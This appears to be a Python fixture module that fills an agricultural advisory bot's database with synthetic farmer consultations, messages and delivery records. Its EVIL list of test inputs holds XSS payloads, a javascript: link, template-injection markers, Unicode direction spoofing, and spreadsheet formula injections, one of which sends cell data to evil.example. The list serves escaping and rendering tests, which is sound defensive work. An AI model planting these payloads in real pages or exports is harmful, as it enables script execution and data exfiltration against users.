"""Consultations by the hundred, written as the store writes them: every standing, verdict and fate, and words that try to
break a page.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

from sqlalchemy import insert

from bot.config import County
from bot.core.events import Address, Media, MediaKind, Ref
from bot.core.people import farmer_id
from bot.core.plan import Button, Message, Parcel, ParcelKind
from bot.core.situation import WITH_PERSON, Consultation, Language, Person, Role, Shown, Status
from bot.store import tables
from bot.store.rows import consultation_values, message_values, parcel_values, person_values
from bot.store.session import Database
from knowledge.model import INDUSTRIES

NOW = datetime(2026, 6, 3, 6, 5, tzinfo=UTC)  # 14:05 in the county
PHOTO = Media(MediaKind.PHOTO, "file:00112233aabbccdd.png", mime="image/png", size=70)
ANSWER = "【小鹅死得多】\n一、先看是不是这个：精神、粪便、喘不喘。\n二、马上做：病鹅隔开，保温，通风。"
REMARK = "疑似小鹅瘟，已通知防疫站 13911112222"
VOICE = Media(MediaKind.VOICE, "file:00112233aabbccee.ogg", mime="audio/ogg", size=40, seconds=7)

QUESTIONS = (
    "小鹅死得多咋办",
    "鹅下软蛋",
    "荞麦多会儿种",
    "羊肚子胀得像鼓，卧下不起",
    "my geese lay soft eggs",
    "山药叶子上起黑斑，背面有白毛",
    "大棚西红柿叶子卷了还掉花是不是缺啥",
    "鸡蛋壳薄，一碰就破，喂的是玉米面和麸皮，已经有十来天了，别的都正常，也吃食也喝水",
)
EVIL = (
    '<script>alert(1)</script><img src=x onerror="alert(2)">',
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
    "+86 13812345678 给我打电话",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\u202eabc.exe\u202c 从右往左 \u200fشكرا",
    "长" * 900,
    "W" * 900,
    "{{ 7 * 7 }} {% raw %} ${7*7} *粗* _斜_ [a](javascript:alert(1))",
    "100%_纯 下划线_和百分号%",
    '引号"和\n换行,逗号',
)  # fmt: skip


def staff_without_phones(county: County) -> County:
    """The county with one more staff member, who may not see phone numbers."""
    clerk = next(person for person in county.people if person.role == "staff")
    reader = clerk.model_copy(update={"id": "staff-reader", "sees_phones": False})
    return county.model_copy(update={"people": (*county.people, reader)})


def farmer(index: int, county: County) -> Person:
    address = Address("tg" if index % 3 else "web", f"9{index:06d}")
    township = county.townships[index % len(county.townships)]
    return Person(
        farmer_id(address), Role.FARMER, name=f"农户{index}", address=address, township=township.id,
        village=township.villages[0].id if index % 2 else None,
        phone=f"138{index:08d}" if index % 4 else "", reachable=index % 11 != 0,
    )  # fmt: skip


def consultation(index: int, who: Person, county: County, chance: random.Random) -> Consultation:
    """The `index`th back from now."""
    status = tuple(Status)[index % len(Status)]
    question = EVIL[index // 9 % len(EVIL)] if index % 9 == 0 else f"{QUESTIONS[index % len(QUESTIONS)]}，{index}"
    opened = NOW - timedelta(minutes=37 * index)
    decision = ("answer", "choose", "escalate")[index % 3]
    with_person = status in WITH_PERSON or (status is Status.CLOSED and decision == "escalate")
    entry = "goose-gosling-deaths" if decision == "answer" else None
    candidates = (("goose-gosling-deaths", round(chance.uniform(0.4, 0.97), 3)), ("goose-soft-eggs", 0.31))
    return Consultation(
        number=index, farmer=who.id, status=status, opened_at=opened, touched_at=opened + timedelta(minutes=20),
        question=question, normalised=question, language=Language.ENGLISH if question.isascii() else Language.SIMPLIFIED,
        shown=Shown(decision, entry, "0a1b2c" if entry else None, round(chance.random(), 3), "matched", candidates, "kb-1"),
        industry=INDUSTRIES[index % len(INDUSTRIES)], township=who.township, village=who.village,
        holder=county.people[index % 9].id if with_person else None, rung=1 if with_person else 0,
        red_flags=("R2", "R1") if index % 13 == 0 else (), reason="unmatched" if with_person else "",
        due_at=NOW + timedelta(hours=index % 7 - 3) if status in (Status.WAITING, Status.TAKEN) else None,
        media=(PHOTO,) if index % 5 == 0 else (),
        outcome="helped" if status is Status.CLOSED else "", closed_at=opened if status is Status.CLOSED else None,
        first_reply_at=opened + timedelta(minutes=31) if status is Status.REPLIED else None,
    )  # fmt: skip


def fill(database: Database, county: County, many: int = 120) -> None:
    """Writes `many` consultations with their farmers, messages, parcels, remarks and journal."""
    chance = random.Random(7)
    names = ("person", "consultation", "message", "parcel", "remark", "journal")
    rows: dict[str, list[dict[str, Any]]] = {name: [] for name in names}
    for index in range(1, many + 1):
        who = farmer(index, county)  # one each: a farmer has at most one consultation in the bot's hands
        case = replace(consultation(many + 1 - index, who, county, chance), number=index)
        rows["person"].append(person_values(who, NOW))
        rows["consultation"].append(consultation_values(case))
        rows["message"] += [message_values(one, version) for one, version in said(case, who)]
        rows["parcel"] += list(sent(case, who))
        rows["remark"] += list(remarks(case))
        rows["journal"] += list(journal(case))
    with database.writing() as session:
        for name, values in rows.items():
            table = getattr(tables, name)
            for start in range(0, len(values), 1000):
                session.execute(insert(table), values[start : start + 1000])


def said(case: Consultation, who: Person) -> Iterator[tuple[Message, int]]:
    assert who.address is not None
    ref = Ref(who.address, f"m{case.number}")
    yield Message(case.number, who.id, case.opened_at, case.question, case.media, ref), 1
    if case.number % 6 == 0:
        yield Message(case.number, who.id, case.opened_at + timedelta(minutes=1), f"{case.question}（改）", ref=ref), 2
    if case.number % 10 == 0:
        yield Message(case.number, who.id, case.touched_at, "", (VOICE,), Ref(who.address, f"v{case.number}")), 1
    if case.holder and case.first_reply_at:
        yield Message(case.number, case.holder, case.first_reply_at, "先隔开，再喂电解质。"), 1


def sent(case: Consultation, who: Person) -> Iterator[dict[str, Any]]:
    assert who.address is not None
    at = case.opened_at + timedelta(seconds=2)
    known = case.shown is not None and case.shown.entry is not None
    kind, text = (ParcelKind.ANSWER, ANSWER) if known else (ParcelKind.NOTICE, "这事转给专家了。")
    first = Parcel(who.address, who.id, kind, text, case.number, ((Button("有用", f"ok.{case.number}"),),))
    yield _delivered(parcel_values(first, at), case.number, at)
    if case.holder:
        post = Address("web", case.holder)
        text = f"咨询 {case.number} 号\n电话：{who.phone}\n原话：{case.question}"
        card = Parcel(post, case.holder, ParcelKind.CARD, text, case.number)
        yield _delivered(parcel_values(card, at), 1, at)
    if case.holder and case.first_reply_at:
        text = "专家回您：先隔开，再喂电解质。"
        reply = Parcel(who.address, who.id, ParcelKind.REPLY, text, case.number, author=case.holder)
        yield _delivered(parcel_values(reply, case.first_reply_at), case.number, case.first_reply_at)


def _delivered(values: dict[str, Any], number: int, at: datetime) -> dict[str, Any]:
    """Most arrived; some never will, some are still waiting."""
    fate = {3: ("dead", None, "Forbidden: bot was blocked by the user"), 7: ("queued", None, "")}
    state, sent_at, error = fate.get(number % 12, ("sent", at + timedelta(seconds=1), ""))
    return {**values, "state": state, "sent_at": sent_at, "error": error, "attempts": 1 if state == "sent" else 3}


def remarks(case: Consultation) -> Iterator[dict[str, Any]]:
    if case.number % 8 == 0:
        who = case.holder or "county-lead"
        yield message_values(Message(case.number, who, case.touched_at, REMARK, internal=True), 1)


def journal(case: Consultation) -> Iterator[dict[str, Any]]:
    shown = case.shown
    assert shown is not None
    facts = {
        "decision": shown.decision,
        "entry": shown.entry,
        "confidence": shown.confidence,
        "verdict_reason": shown.reason,
        "candidates": [list(one) for one in shown.candidates],
        "red_flags": list(case.red_flags),
    }
    line = {"number": case.number, "kind": "said", "actor": case.farmer, "data": facts}
    yield {**line, "key": f"tg:{case.number}", "at": case.opened_at}
    if case.holder:
        held = {"reason": case.reason, "holder": case.holder, "rung": 1, "due": NOW.isoformat()}
        line = {"number": case.number, "kind": "rang", "actor": "", "data": held}
        yield {**line, "key": f"timer:{case.number}", "at": case.touched_at}
